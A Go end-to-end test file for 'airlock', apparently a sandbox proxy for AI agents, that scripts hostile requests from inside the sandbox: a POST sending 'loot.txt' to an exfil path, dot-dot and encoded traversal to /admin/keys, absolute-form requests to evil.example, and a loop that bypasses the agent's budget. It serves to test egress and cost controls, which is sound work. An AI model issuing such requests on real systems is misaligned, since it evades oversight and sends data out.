@@ -1,0 +1,155 @@
+package e2e
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/airlock-dev/airlock/internal/egress"
+)
+
+// pathAttempts are requests an agent makes to its model-API endpoint
+// (127.0.0.1:3129 inside the sandbox, where the proxy adds the real key)
+// for anything but the model API's own routes. Each curl prints its name
+// and the HTTP status.
+var pathAttempts = []struct{ name, curl string }{
+	{"exfil path", `-X POST --data-binary @loot.txt http://127.0.0.1:3129/v1/exfil`},
+	{"dot-dot", `--path-as-is http://127.0.0.1:3129/v1/../../admin/keys`},
+	{"dot-dot POST", `--path-as-is -X POST -d x http://127.0.0.1:3129/v1/messages/../../admin/keys`},
+	{"encoded dots", `--path-as-is -X POST -d x 'http://127.0.0.1:3129/v1/%2e%2e/%2e%2e/admin/keys'`},
+	{"encoded dots upper", `--path-as-is -X POST -d x 'http://127.0.0.1:3129/v1/%2E%2E/admin/keys'`},
+	{"encoded slash", `--path-as-is -X POST -d x 'http://127.0.0.1:3129/v1%2fmessages'`},
+	{"encoded backslash", `--path-as-is -X POST -d x 'http://127.0.0.1:3129/v1/messages%5c..%5cadmin'`},
+	{"absolute-form via -x", `--noproxy '' -x http://127.0.0.1:3129 -X POST -d x http://evil.example/x`},
+	{"absolute-form request target", `-X POST -d x --request-target 'http://evil.example/v1/messages' http://127.0.0.1:3129/`},
+	{"other method", `-X GET http://127.0.0.1:3129/v1/messages`},
+	{"other path", `http://127.0.0.1:3129/v1/models`},
+}
+
+// The model endpoint forwards only POST /v1/messages and
+// /v1/messages/count_tokens: every other path, dot segment, encoded dot,
+// method and absolute-form target, sent from inside a real run, is a 403
+// in the audit log and never reaches the model API (issue 7, item 7).
+func TestHostileEgressModelEndpoint(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	var script strings.Builder
+	script.WriteString("head -c 2000 /dev/urandom | base64 > loot.txt\n")
+	for _, a := range pathAttempts {
+		fmt.Fprintf(&script, "printf '%%s\\t%%s\\n' %q \"$(curl -s -o /dev/null -w '%%{http_code}' -m 10 -H 'x-api-key: placeholder' %s)\"\n", a.name, a.curl)
+	}
+	e.write("paths.sh", script.String())
+	e.git("add", ".")
+	e.git("commit", "-qm", "path attempts")
+	srv, _ := e.server(runScript("paths", "sh paths.sh > codes.txt 2>&1; echo finished"))
+	e.ok("run", "-y", "-m", "Probe the model endpoint.", "--name", "paths")
+	r := e.runs()[0]
+
+	codes, err := os.ReadFile(filepath.Join(e.state, "airlock", "runs", r.ID, "workspace", "codes.txt"))
+	if err != nil {
+		t.Fatalf("the attempts did not run: %v", err)
+	}
+	got := map[string]string{}
+	for _, line := range strings.Split(strings.TrimSpace(string(codes)), "\n") {
+		name, code, _ := strings.Cut(line, "\t")
+		got[name] = code
+	}
+	for _, a := range pathAttempts {
+		if got[a.name] != "403" {
+			t.Errorf("%s: HTTP %q, want 403 (curl %s)", a.name, got[a.name], a.curl)
+		}
+	}
+
+	var main int
+	for _, q := range srv.Requests() {
+		if q.Method != "POST" || (q.Path != "/v1/messages" && q.Path != "/v1/messages/count_tokens") {
+			t.Errorf("the model API received %s %s?%s", q.Method, q.Path, q.Query)
+		}
+		if q.Path == "/v1/messages" {
+			main++
+		}
+	}
+	if main == 0 {
+		t.Error("the model API received no model request: the agent did not run through the proxy")
+	}
+
+	denied := 0
+	for _, rec := range auditRecords(t, e.state, r.ID) {
+		if rec.Kind == egress.KindAPI && !rec.Allowed {
+			denied++
+		}
+	}
+	if denied != len(pathAttempts) {
+		t.Errorf("%d api refusals in the audit log, want %d:\n%s", denied, len(pathAttempts), recordsJSON(auditRecords(t, e.state, r.ID)))
+	}
+}
+
+// Once a run's --max-cost is spent, the proxy refuses further model
+// requests: a loop inside the sandbox that talks to the model endpoint
+// itself (the in-sandbox relay's courtesy budget only reads the agent's
+// transcript, which never shows these) gets one expensive request through
+// and then only refusals, and the model API sees nothing after it.
+func TestHostileEgressMaxCostEnforcedByProxy(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	// ~100 kB of prompt for Opus: about 25k input tokens, $0.375 at list
+	// price, more than the whole budget. The agent's own requests use a
+	// cheap model and cost a few cents.
+	body := fmt.Sprintf(`{"model":"claude-opus-4-1-20250805","max_tokens":16,"messages":[{"role":"user","content":%q}]}`, strings.Repeat("spend ", 100_000/6))
+	e.write("big.json", body)
+	e.write("spend.sh", `for i in 1 2 3 4 5; do
+  printf '%s\t%s\n' $i "$(curl -s -o /dev/null -w '%{http_code}' -m 30 -X POST http://127.0.0.1:3129/v1/messages \
+    -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' -H 'x-api-key: placeholder' --data-binary @big.json)"
+done
+`)
+	e.git("add", ".")
+	e.git("commit", "-qm", "spend")
+	srv, _ := e.server(runScript("spend", "sh spend.sh > codes.txt 2>&1; echo finished"))
+	res := e.airlock("run", "-y", "--model", "claude-haiku-4-5", "--max-cost", "0.20", "-m", "Spend it all.", "--name", "spend")
+	r := e.runs()[0]
+	runDir := filepath.Join(e.state, "airlock", "runs", r.ID)
+
+	codes, err := os.ReadFile(filepath.Join(runDir, "workspace", "codes.txt"))
+	if err != nil {
+		t.Fatalf("the loop did not run: %v\nrun: exit %d\n%s\n%s", err, res.code, res.stdout, res.stderr)
+	}
+	if want := "1\t200\n2\t403\n3\t403\n4\t403\n5\t403\n"; string(codes) != want {
+		t.Errorf("the loop's statuses:\n%s\nwant:\n%s", codes, want)
+	}
+
+	reqs := srv.Requests()
+	expensive, last := 0, -1
+	for i, q := range reqs {
+		if q.Model == "claude-opus-4-1-20250805" {
+			expensive++
+			last = i
+		}
+	}
+	if expensive != 1 {
+		t.Errorf("the model API received %d of the loop's requests, want 1 (then the budget was spent)", expensive)
+	}
+	if last >= 0 && last != len(reqs)-1 {
+		for _, q := range reqs[last+1:] {
+			t.Errorf("the model API received %s %s (model %s) after the budget was spent", q.Method, q.Path, q.Model)
+		}
+	}
+
+	m, err := egress.ReadMeter(filepath.Join(runDir, "egress", "meter.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(m.Exhausted, "max cost $0.20 reached") || m.CostUSD < 0.2 || m.Refused < 4 {
+		t.Errorf("meter = %+v", m)
+	}
+	refused := 0
+	for _, rec := range auditRecords(t, e.state, r.ID) {
+		if rec.Kind == egress.KindAPI && !rec.Allowed && strings.Contains(rec.Reason, "budget is spent: max cost $0.20 reached") {
+			refused++
+		}
+	}
+	if refused < 4 {
+		t.Errorf("%d budget refusals in the audit log, want at least 4:\n%s", refused, recordsJSON(auditRecords(t, e.state, r.ID)))
+	}
+}
